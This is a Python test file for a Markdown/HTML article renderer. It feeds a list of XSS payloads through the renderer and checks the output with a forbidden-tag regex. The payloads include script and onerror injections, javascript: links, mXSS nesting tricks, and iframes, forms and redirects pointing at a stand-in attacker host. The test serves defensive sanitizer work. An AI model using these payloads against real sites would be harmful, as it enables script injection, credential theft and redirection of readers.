"""No payload in a body does anything in a reader's browser."""

import re

import pytest

from articles.rendering import render


def html_of(source: str) -> str:
    return render(source).html


PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<iframe src="https://evil.kr"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.kr/embed/abcdefghijk"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><script>alert(1)</script></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.kr'</style>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<img src="/a.png" srcset="javascript:alert(1) 2x">',
    '<p style="position:fixed">x</p>',
    '<form action="https://evil.kr"><input name=password><button>x</button></form>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<object data="https://evil.kr"></object><embed src="https://evil.kr">',
    '<meta http-equiv=refresh content="0;url=https://evil.kr"><base href="https://evil.kr">',
    '[x](https://a.kr/"onmouseover="alert(1))',
    '![x" onerror="alert(1)](/a.png)',
    '![x](/a.png "x" onerror="alert(1)")',
    '```"><script>alert(1)</script>\nx\n```',
    '## x {#"><script>alert(1)</script>}',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '> [!NOTE] <img src=x onerror="alert(1)">',
    "| <script>alert(1)</script> |\n|-|",
    "`<script>`<script>alert(1)</script>",
]
FORBIDDEN = re.compile(
    r"<(?:script|style|svg|math|object|embed|meta|base|form|button|textarea|input|noscript)\b"
    r"|<[^>]*\s(?:on\w+|style|srcset|srcdoc|action|formaction)\s*="
    r'|<iframe(?! src="https://www\.youtube-nocookie\.com/embed/[\w-]{11}")'
    r'|(?:href|src)="\s*(?:javascript|data|vbscript):',
    re.IGNORECASE,
)


def _without_attribute_values(html: str) -> str:
    """Quoted values cannot break out; only the addresses among them matter."""
    return re.sub(r' (?!href|src)[\w-]+="[^"]*"', lambda m: m[0].split("=")[0] + '=""', html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless(payload: str) -> None:
    html = html_of(f"앞\n\n{payload}\n\n본문 {payload}\n")
    assert not FORBIDDEN.search(_without_attribute_values(html))


@pytest.mark.parametrize(
    "source",
    [
        '<div id="comments" class="comment">가</div>',
        '<section id="comment-1" class="callout">가</section>',
        '<a id="main" class="footnote-backref">가</a>',
        '<p class="callout-title">가</p>',
    ],
)
def test_authors_cannot_write_ids_or_classes(source: str) -> None:
    assert not re.search(r"\s(?:id|class)=", html_of(source))


def test_allowed_raw_html_survives() -> None:
    source = "H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>표시</mark> <ruby>漢<rt>한</rt></ruby>"
    assert html_of(source) == f"<p>{source}</p>"
